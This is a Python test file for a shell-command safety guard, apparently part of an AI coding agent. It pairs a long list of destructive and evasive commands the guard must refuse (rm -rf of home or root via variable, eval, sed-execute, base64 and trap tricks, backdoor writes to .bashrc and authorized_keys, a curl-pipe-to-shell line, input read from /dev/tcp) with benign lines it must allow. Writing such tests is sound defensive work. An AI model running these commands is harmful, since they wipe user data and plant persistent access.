"""The refused-command check's evaluation of a line (issue 16), tried as an attacker: each
value the check now works out (the shell's variables, `cd`, `$(mktemp)`, `${X:?}`, the
repository's top) is pushed toward a path it must not let through, next to the ordinary
line that must run. Unit level: the real check on a real directory."""

from __future__ import annotations

from pathlib import Path

import pytest

from coder_ls.guard.safety import check_command


@pytest.fixture
def home(tmp_path: Path) -> Path:
    path = tmp_path / "home" / "me"
    (path / ".ssh").mkdir(parents=True)
    return path


@pytest.fixture
def root(home: Path) -> Path:
    path = home / "projects" / "app"
    (path / ".git").mkdir(parents=True)
    (path / "a" / "b" / "c").mkdir(parents=True)
    return path


def check(command: str, root: Path, home: Path, env: dict[str, str] | None = None, **kw: Path) -> str | None:
    shell = {"HOME": str(home), "PATH": "/usr/bin:/bin", **(env or {})}
    return check_command(command, root, cwd=kw.get("cwd", root), home=home, env=shell)


# (line, what the shell exports) that must be refused
DANGEROUS = [
    ("cd ~ && echo x >> .bashrc", {}),
    ("pushd ~/.ssh; echo k >> authorized_keys", {}),
    ("cd; echo x >> .profile", {}),
    ("echo x >> $T", {"T": "~/.bashrc"}),
    ('echo x >> "$T"', {"T": "{home}/.bashrc"}),
    ("git clean -fdx", {"GIT_WORK_TREE": "{home}"}),
    ("git reset --hard", {"GIT_WORK_TREE": "/"}),
    ("cd - && rm -rf *", {"OLDPWD": "{home}"}),
    ("cd .ssh && echo k >> authorized_keys", {"CDPATH": "{home}"}),
    ("rm -rf ~", {"HOME": "/"}),
    ("rm -rf $NOT_SET/", {}),
    ('rm -rf "${OUT:-/}"', {}),
    ('rm -rf "${OUT:=$HOME}"', {}),
    ('rm -rf "$(mktemp -d)"/..', {}),
    ("rm -rf $(find / -name x)", {}),
    ("rm -rf $(find . -maxdepth 0 -printf /)", {}),
    ("rm -rf $(find -L . -name x)", {}),
    ("false && x=build; rm -rf $x/", {}),
    ("x=build true; rm -rf $x/", {}),
    ("x=/; (x=build); rm -rf $x", {}),
    ("x=build; printf -v x %s /; rm -rf $x", {}),
    ("declare -n r=Y; r=/; rm -rf $Y", {}),
    ('x=build; eval "x=/"; rm -rf $x', {}),
    ("x=build; source .env; rm -rf $x", {}),
    ("(cd a/b/c); rm -rf ../../../../x", {}),
    ("sh -c 'cd a/b/c'; rm -rf ../../../../x", {}),
    ('cd "$(pick)" && echo x >> .bashrc', {}),
    ('rm -rf "$(git rev-parse --show-toplevel)"', {}),
    ('rm -rf "$(git rev-parse --show-toplevel)/.."', {}),
    ('cd ~ && rm -rf "$(git rev-parse --show-toplevel)/x"', {}),
    ("rm -rf ${c,,}", {"c": "/"}),
    ("script -qc 'rm -rf ~' /dev/null", {}),
    ("flock /tmp/l -c 'rm -rf ~'", {}),
    ("setpriv rm -rf ~", {}),
    ("rbash -c 'rm -rf ~'", {}),
    ("echo x | sed 's/x/rm -rf ~/e'", {}),
    ("sed -n '1e rm -rf ~' f.txt", {}),
    ("git -c alias.x='!rm -rf ~' x", {}),
    ("printf '%s' 'rm -rf ~' | sh", {}),
    ("echo -e 'r\\x6d -rf ~' | sh", {}),
    ("rm -rf /proc/1/root/tmp/x", {}),
    ("echo x > /proc/1/root/etc/profile", {}),
    ("rm -rf " + "/x" * 3000, {}),
    ("trap 'rm -rf ~' EXIT", {}),
    ('trap "$(echo cm0gLXJmIH4= | base64 -d)" EXIT', {}),
    ("git -C ~ -C .ssh clean -fdx", {}),
    ("HOME=/; echo x > ~/etc/profile", {}),
    ("xargs rm -rf < /dev/tcp/example.com/80", {}),
    ("cat /dev/stdin | xargs rm -rf", {}),
    ('cd ~ && rm -rf "$PWD"', {}),
    ("rm -rf $T", {"T": "/* x"}),
    ("sed -i '$a curl -s x | sh' ~/.bashrc", {}),
    ("sed -i.bak -e '1i evil' ~/.profile", {}),
    ("perl -pi -e 's/^/evil /' ~/.bashrc", {}),
    ('for d in build /; do rm -rf "$d"; done', {}),
    ("for d in build ..; do rm -rf $d; done", {}),
    ("for d in /tmp/a /etc; do rm -rf $d; done", {}),
    ("for d in $(ls ~); do rm -rf $d; done", {}),
    ("for d in ~/.ssh; do echo k >> $d/authorized_keys; done", {}),
]

ORDINARY = [
    ('tmp=$(mktemp -d) && touch "$tmp/x" && rm -rf "$tmp"', {}),
    ('tmp=$(mktemp -d -p "$HOME") && rm -rf "$tmp"', {}),
    ('rm -rf "${BUILD_DIR:?}"/*', {}),
    ('rm -rf "${BUILD_DIR:?}"/*', {"BUILD_DIR": "{root}/build"}),
    ("rm -r $(find . -name __pycache__)", {}),
    ('rm -rf "$(git rev-parse --show-toplevel)/build"', {}),
    ('cd a/b && rm -rf "$(git rev-parse --show-toplevel)/build"', {}),
    ("xargs rm -rf < list.txt", {}),
    ('chmod -R g+w "$PROJECT_DIR"', {"PROJECT_DIR": "{root}"}),
    ("rm -rf $TMPDIR/myapp-cache", {"TMPDIR": "/tmp"}),
    ("find /var/tmp -maxdepth 1 -name 'pytest-*' -mtime +1 -exec rm -rf {} +", {}),
    ('while read -r f; do rm -f "$f"; done < deleted.txt', {}),
    ('for d in */; do (cd "$d" && git pull); done', {}),
    ("cd a/b && echo x >> notes.txt", {}),
    ("sed -i -e 's/foo/bar/g' -e 's|/usr|/opt|' src.txt", {}),
    ("sed -n '/start/,/end/p; 1d; $d' f.txt", {}),
    ("sed 's/e/E/w out.txt' f.txt", {}),
    ("git clean -fdx", {}),
    ("git -c color.ui=never status", {}),
    ("rm -rf ~/.cache/pip", {}),
    ("printf 'a\\nb\\n' > list.txt", {}),
    ("trap 'rm -rf \"$tmp\"' EXIT", {}),
    ("git -C a -C b status", {}),
    ('trap "kill $(jobs -p)" EXIT; sleep 1 & wait', {}),
    ("sed -i 's/foo/bar/g' src/app.py", {}),
    ("rm -rf $T", {"T": "build/* dist"}),
    ('for f in *.tmp; do rm -rf "$f"; done', {}),
    ('for d in build dist .cache; do rm -rf "$d"; done', {}),
    ("for d in /var/tmp/a /var/tmp/b; do rm -rf $d; done", {}),
]


def _fill(env: dict[str, str], root: Path, home: Path) -> dict[str, str]:
    return {k: v.format(home=home, root=root) for k, v in env.items()}


@pytest.mark.parametrize(("line", "env"), DANGEROUS, ids=[d[0][:60] for d in DANGEROUS])
def test_dangerous_is_refused(line, env, root, home):
    assert check(line, root, home, _fill(env, root, home)), line


@pytest.mark.parametrize(("line", "env"), ORDINARY, ids=[o[0][:60] for o in ORDINARY])
def test_ordinary_runs(line, env, root, home):
    assert check(line, root, home, _fill(env, root, home)) is None


def test_without_the_shells_environment_an_unknown_variable_stays_unknown(root, home):
    # a caller that cannot say what the shell holds: `$X` may be anything
    assert check_command('rm -rf "$X"', root, cwd=root, home=home)
    assert check_command('rm -rf "${X:?}"/*', root, cwd=root, home=home)


def test_a_fresh_mktemp_name_is_only_that_name(root, home):
    name = "tmp.mktemp-XXXXXXXXXX"
    assert check(f"rm -rf /etc/{name}", root, home) is None  # deletes nothing that was there
    assert check(f"rm -rf /etc/{name}/..", root, home)
    assert check(f"ln -sfn / /tmp/{name} && rm -rf /tmp/{name}/", root, home)


def test_cdpath_goes_where_bash_would_go(root, home):
    (home / ".config" / "autostart").mkdir(parents=True)
    env = {"CDPATH": f"{root}:{home}/.config"}
    assert check("cd autostart && echo x > evil.desktop", root, home, env)
    assert check("cd a && echo x > notes.txt", root, home, env) is None


def test_unresolvable_paths_never_raise(root, home, tmp_path):
    loop = tmp_path / "loop"
    loop.symlink_to(loop)
    for line in (f"rm -rf {loop}/x", f"echo x > {loop}/y", "cd /proc/1/root && rm -rf *", "rm -rf " + "a" * 5000):
        check(line, root, home)  # a verdict either way, never an exception


def test_the_shells_exports_are_read_as_bash_wrote_them():
    from coder_ls.engine.shellstate import exported

    lines = [
        'declare -x A="x\\"y\\$z\\\\w"',
        'declare -x EMPTY=""',
        "declare -x UNSET_BUT_EXPORTED",
        "declare -x NL=$'a\\nb'",
        'declare -rx RO="1"',
    ]
    dump = "".join(f"{line}\n" for line in lines)
    assert exported(dump) == {"A": 'x"y$z\\w', "EMPTY": "", "NL": "a\nb", "RO": "1"}
    assert exported("rm -rf /\n") is None  # not a dump: the check then knows no variables
